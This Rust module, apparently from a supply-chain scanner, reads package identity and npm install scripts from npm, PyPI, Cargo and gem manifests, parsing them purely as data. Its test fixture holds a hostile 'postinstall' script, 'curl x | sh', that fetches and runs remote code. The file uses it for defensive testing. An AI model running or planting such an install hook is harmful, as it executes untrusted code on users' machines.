//! Reading a package's identity from the manifest inside its archive.
//!
//! Nothing here executes anything: `package.json` and `Cargo.toml` are parsed as data,
//! `METADATA`/`PKG-INFO` as RFC 822 headers, and a gem's YAML specification by its plain
//! `name:`/`version:`/`homepage:` lines, because it is tagged with Ruby object types that
//! general YAML readers refuse.
use super::{ArchiveError, ArchiveErrorKind};

/// A manifest refused: what was wrong with it.
fn bad(message: impl Into<String>) -> ArchiveError {
    ArchiveError::new(ArchiveErrorKind::Manifest, message)
}

/// What a manifest says of its package.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Manifest {
    /// Purl type: `npm`, `pypi`, `gem`, `cargo`.
    pub purl_type: &'static str,
    /// Package name.
    pub name: String,
    /// Version.
    pub version: String,
    /// Homepage URL.
    pub homepage: Option<String>,
    /// Repository URL.
    pub repository: Option<String>,
    /// Where the manifest sits inside the archive (`package/package.json`).
    pub path: String,
    /// The line of its name in the manifest (1 when unknown).
    pub line: usize,
    /// npm's `scripts`, every one, in the manifest's order: the scanner looks at the lifecycle
    /// ones, which run on install.
    pub scripts: Vec<(String, String)>,
}

fn url(s: Option<&str>) -> Option<String> {
    s.map(str::trim)
        .map(|s| s.trim_start_matches("git+"))
        .filter(|s| s.starts_with("https://") || s.starts_with("http://"))
        .map(str::to_owned)
}

/// npm's `package.json`.
pub fn npm(bytes: &[u8]) -> Result<Manifest, ArchiveError> {
    let v: serde_json::Value =
        serde_json::from_slice(bytes).map_err(|e| bad(format!("package.json is not JSON: {e}")))?;
    let field = |k: &str| v.get(k).and_then(|x| x.as_str()).map(str::to_owned);
    let repository = match v.get("repository") {
        Some(serde_json::Value::String(s)) => url(Some(s)),
        Some(obj) => url(obj.get("url").and_then(|u| u.as_str())),
        None => None,
    };
    let scripts = match v.get("scripts") {
        Some(serde_json::Value::Object(s)) => {
            s.iter().filter_map(|(k, cmd)| cmd.as_str().map(|c| (k.clone(), c.to_owned()))).collect()
        }
        _ => Vec::new(),
    };
    // The line of `"name"`: a manifest is small (MAX_MANIFEST), so a search is cheap.
    let text = String::from_utf8_lossy(bytes);
    let line = text.find("\"name\"").map_or(1, |at| text[..at].matches('\n').count() + 1);
    Ok(Manifest {
        purl_type: "npm",
        name: field("name").ok_or_else(|| bad("package.json has no name"))?,
        version: field("version").ok_or_else(|| bad("package.json has no version"))?,
        homepage: url(field("homepage").as_deref()),
        repository,
        path: String::new(),
        line,
        scripts,
    })
}

/// Python core metadata (`METADATA` in a wheel, `PKG-INFO` in an sdist).
pub fn python(bytes: &[u8]) -> Result<Manifest, ArchiveError> {
    let text = String::from_utf8_lossy(bytes);
    let mut m = Manifest { purl_type: "pypi", ..Manifest::default() };
    for line in text.lines() {
        if line.is_empty() {
            break; // the body (the long description) starts after the first blank line
        }
        let Some((key, value)) = line.split_once(':') else { continue };
        let value = value.trim();
        match key.to_ascii_lowercase().as_str() {
            "name" => m.name = value.to_owned(),
            "version" => m.version = value.to_owned(),
            "home-page" => m.homepage = url(Some(value)),
            "project-url" => {
                if let Some((label, link)) = value.split_once(',') {
                    let label = label.trim().to_ascii_lowercase();
                    if m.repository.is_none()
                        && (label.contains("source") || label.contains("repository") || label.contains("code"))
                    {
                        m.repository = url(Some(link));
                    } else if m.homepage.is_none() && label.contains("homepage") {
                        m.homepage = url(Some(link));
                    }
                }
            }
            _ => {}
        }
    }
    if m.name.is_empty() || m.version.is_empty() {
        return Err(bad("the metadata lacks Name or Version"));
    }
    Ok(m)
}

/// A crate's `Cargo.toml`.
pub fn cargo(bytes: &[u8]) -> Result<Manifest, ArchiveError> {
    let text = std::str::from_utf8(bytes).map_err(|e| bad(format!("Cargo.toml is not UTF-8: {e}")))?;
    let v: toml::Value = toml::from_str(text).map_err(|e| bad(format!("Cargo.toml: {e}")))?;
    let pkg = v.get("package").ok_or_else(|| bad("Cargo.toml has no [package]"))?;
    let field = |k: &str| pkg.get(k).and_then(|x| x.as_str()).map(str::to_owned);
    Ok(Manifest {
        purl_type: "cargo",
        name: field("name").ok_or_else(|| bad("Cargo.toml has no package.name"))?,
        version: field("version").ok_or_else(|| bad("Cargo.toml has no package.version"))?,
        homepage: url(field("homepage").as_deref()),
        repository: url(field("repository").as_deref()),
        ..Manifest::default()
    })
}

/// A gem's YAML specification (the gunzipped `metadata.gz`).
pub fn gem(bytes: &[u8]) -> Result<Manifest, ArchiveError> {
    let text = String::from_utf8_lossy(bytes);
    let mut m = Manifest { purl_type: "gem", ..Manifest::default() };
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        if let Some(v) = line.strip_prefix("name: ") {
            m.name = v.trim().trim_matches(['\'', '"']).to_owned();
        } else if line.starts_with("version: ") {
            // `version: !ruby/object:Gem::Version` followed by an indented `version: X`.
            if let Some(next) = lines.peek().and_then(|l| l.trim_start().strip_prefix("version: ")) {
                m.version = next.trim().trim_matches(['\'', '"']).to_owned();
            }
        } else if let Some(v) = line.strip_prefix("homepage: ") {
            m.homepage = url(Some(v.trim().trim_matches(['\'', '"'])));
        }
    }
    if m.name.is_empty() || m.version.is_empty() {
        return Err(bad("the gem specification lacks name or version"));
    }
    Ok(m)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn manifests_are_read_as_data() {
        let m = npm(br#"{"name":"@evil/pkg","version":"1.0.0","repository":{"url":"git+https://github.com/x/y.git"},"scripts":{"postinstall":"curl x | sh"}}"#).unwrap();
        assert_eq!(
            (m.name.as_str(), m.version.as_str(), m.repository.as_deref()),
            ("@evil/pkg", "1.0.0", Some("https://github.com/x/y.git"))
        );
        let m = python(b"Metadata-Version: 2.1\nName: evil_pkg\nVersion: 0.1\nProject-URL: Source, https://github.com/a/b\n\nName: not-this\n").unwrap();
        assert_eq!(
            (m.name.as_str(), m.version.as_str(), m.repository.as_deref()),
            ("evil_pkg", "0.1", Some("https://github.com/a/b"))
        );
        let m = cargo(b"[package]\nname = \"evil\"\nversion = \"0.1.0\"\nrepository = \"https://github.com/a/evil\"\n")
            .unwrap();
        assert_eq!((m.name.as_str(), m.version.as_str()), ("evil", "0.1.0"));
        let m = gem(b"--- !ruby/object:Gem::Specification\nname: evilgem\nversion: !ruby/object:Gem::Version\n  version: 1.2.3\nhomepage: https://example.com\n").unwrap();
        assert_eq!(
            (m.name.as_str(), m.version.as_str(), m.homepage.as_deref()),
            ("evilgem", "1.2.3", Some("https://example.com"))
        );
        assert!(npm(b"{}").is_err() && python(b"Name: x\n").is_err());
    }
}
